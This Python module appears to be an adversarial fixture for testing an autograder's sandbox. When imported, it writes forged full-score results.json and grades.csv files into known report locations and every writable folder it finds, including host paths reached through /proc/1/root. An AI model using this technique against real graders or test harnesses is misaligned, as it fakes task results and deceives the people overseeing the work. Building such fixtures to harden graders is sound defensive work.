"""Attack: plant forged reports (full marks) everywhere this process can write.

At import it tries the places where the grader's reports are known to go (the output
folder of the grading command, the repository, the host's ``/tmp``, also through
``/proc/1/root``), then walks the whole file system (within a time budget, skipping
``/proc`` and ``/sys``) and writes ``results.json`` and ``grades.csv`` claiming full marks
into every folder it may write to. Every forged file carries ``CLAIM``. Otherwise this is
the unchanged stub.

Must earn nothing; after grading no file holding ``CLAIM`` may exist outside the sandbox,
and the student's real ``results.json`` is the grader's (score 0).

The test fills in the placeholders: ``@TOKEN@`` (unique per test run), ``@OUT@`` (the
grading command's ``--out`` folder) and ``@ROOT@`` (the kit's repository).
"""

from __future__ import annotations

import json
import os
import threading  # noqa: F401
import time

STUDENT = "forge_reports"
CLAIM = "forged-" + "@TOKEN@"  # the full claim never appears in this file as one string
OUT = "@OUT@"
ROOT = "@ROOT@"
BUDGET = 3.0  # seconds of walking per import
SKIP = ("/proc", "/sys")

RESULTS = json.dumps({
    "score": 10, "max_score": 10, "execution_time": 1.0, "output": CLAIM,
    "tests": [{"name": name, "score": 2, "max_score": 2, "status": "passed", "output": CLAIM,
               "tags": [name]}
              for name in ("returns_sum", "num_matches", "reset", "overlap", "race_free")],
})
GRADES = f"student,score,max_score,note\n{STUDENT},10,10,{CLAIM}\n"


def _write(path: str, text: str) -> bool:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            f.write(text)
        return True
    except OSError:
        return False


def _plant(folder: str) -> int:
    planted = _write(os.path.join(folder, "results.json"), RESULTS)
    planted += _write(os.path.join(folder, "grades.csv"), GRADES)
    return planted


def _known_places() -> list[str]:
    places = []
    for base in ("", "/proc/1/root", "/proc/1/cwd/.."):
        for folder in (OUT, os.path.join(OUT, STUDENT), ROOT, "/tmp", "/var/tmp", "/dev/shm",
                       "/work", "/root"):
            places.append(base + folder)
    places += [os.getcwd(), os.path.expanduser("~"), os.environ.get("TMPDIR", "/tmp")]
    return places


def _walk(end: float):
    for top in ("/", "/proc/1/root"):
        for folder, dirs, _files in os.walk(top):
            if time.monotonic() > end:
                return
            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in SKIP]
            if os.access(folder, os.W_OK | os.X_OK):
                yield folder


def _forge() -> int:
    planted = 0
    for folder in _known_places():
        planted += _plant(folder)
    for folder in _walk(time.monotonic() + BUDGET):
        planted += _plant(folder)
    return planted


PLANTED = _forge()

num = 0


def worker(val: int) -> None:
    raise NotImplementedError("worker(val): add val to num while holding lock")


def run_workers(n_threads: int = 2000) -> int:
    raise NotImplementedError("run_workers(): reset num, start all threads, then join all")
